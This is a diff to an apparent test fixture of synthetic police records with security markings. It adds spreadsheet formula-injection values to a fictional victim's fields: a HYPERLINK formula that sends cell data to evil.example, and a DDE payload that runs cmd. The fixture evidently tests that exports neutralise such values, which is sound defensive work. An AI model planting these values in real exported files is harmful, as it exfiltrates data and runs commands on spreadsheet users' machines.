@@ -238,14 +238,16 @@ OBJECTS: list[dict[str, Any]] = [
 #: The assessed variant's extra records. P5 (cambs, OFFICIAL) raped V3 on e5 (OFFICIAL); the
 #: crime records no age for her, so her age comes from her only dated record, which is
 #: OFFICIAL-SENSITIVE. P6's record is OFFICIAL, but the crime it names (e6) and its victim
-#: are OFFICIAL-SENSITIVE.
+#: are OFFICIAL-SENSITIVE. V3's records carry values a spreadsheet would run as formulas.
 ASSESSED_MENTIONS: list[dict[str, Any]] = [
     _mention("mention-000010", "P5", "cambs", "P", "OFFICIAL", "KARL", "HOLT", "suspect", "e5",
              dob=dt.date(1985, 3, 3), dob_year=1985, gender="M"),
     _mention("mention-000011", "V3", "cambs", "P", "OFFICIAL", "ROSE", "WREN", "victim", "e5",
-             gender="F"),
+             gender="F", address_raw='=HYPERLINK("http://evil.example/?"&A1,"open")',
+             email="@evil.example"),
     _mention("mention-000012", "V3", "cambs", "P", "OFFICIAL-SENSITIVE", "ROSE", "WREN",
-             "missing", None, dob=dt.date(2009, 6, 6), dob_year=2009, gender="F"),
+             "missing", None, dob=dt.date(2009, 6, 6), dob_year=2009, gender="F",
+             address_raw="-2+3+cmd|' /C calc'!A0", cro_number="+1-1"),
     _mention("mention-000013", "P6", "essex", "P", "OFFICIAL", "DEAN", "MOSS", "suspect", "e6",
              dob=dt.date(1979, 9, 9), dob_year=1979, gender="M"),
     _mention("mention-000014", "V4", "essex", "P", "OFFICIAL-SENSITIVE", "EVE", "STONE",
